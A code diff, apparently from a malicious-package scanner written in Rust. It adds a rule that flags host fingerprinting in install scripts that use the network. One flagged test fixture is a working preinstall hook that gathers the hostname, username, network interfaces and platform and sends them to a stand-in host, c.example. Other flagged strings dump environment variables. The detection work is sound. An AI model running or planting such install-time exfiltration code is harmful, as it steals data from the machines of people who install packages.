@@ -18,7 +18,8 @@ crate::declare_rule! {
     case_file: "index.js",
     flag: ["const data = Buffer.from(JSON.stringify(process.env)).toString('base64')",
            "const e = process.env; for (const k in e) out[k] = e[k]",
-           "Object.entries(process.env).forEach(([k, v]) => send(k, v))"],
+           "Object.entries(process.env).forEach(([k, v]) => send(k, v))",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"node index.js\"}}\n=== index.js\nconst os = require('os'); const https = require('https'); const d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces(), p: os.platform() }); https.get('https://c.example/?d=' + d)"],
     pass: ["const token = process.env.API_TOKEN", "spawn(cmd, args, { env: { ...process.env, FOO: '1' } })", "const env = Object.assign({}, process.env, { A: 1 })"],
 }
 
@@ -48,6 +49,42 @@ fn check(pkg: &Package, out: &mut Emitter) {
                 .map(|c| (c.off, c.path.clone())),
             None => find_text(f, text).into_iter().next(),
         };
+        let hit = hit.or_else(|| {
+            // A host fingerprint: who and where the machine is, collected in one place.
+            let js = f.js.as_ref()?;
+            let probes = [
+                "os.hostname",
+                "os.userInfo",
+                "os.homedir",
+                "os.networkInterfaces",
+                "dns.getServers",
+                "os.platform",
+                "os.arch",
+                "os.release",
+            ];
+            let seen: Vec<&str> = probes
+                .iter()
+                .copied()
+                .filter(|p| js.calls.iter().any(|c| c.path == *p))
+                .collect();
+            let identity = seen
+                .iter()
+                .filter(|p| {
+                    matches!(
+                        **p,
+                        "os.userInfo" | "os.networkInterfaces" | "dns.getServers" | "os.hostname"
+                    )
+                })
+                .count();
+            (seen.len() >= 4 && identity >= 3 && super::has_network(f) && pkg.is_install_file(f))
+                .then(|| {
+                    js.calls
+                        .iter()
+                        .find(|c| c.path == seen[0])
+                        .map(|c| (c.off, format!("host fingerprint: {}", seen.join(", "))))
+                })
+                .flatten()
+        });
         let Some((off, what)) = hit else { continue };
         let exfil = super::has_network(f);
         let sev = if exfil || pkg.is_install_file(f) {
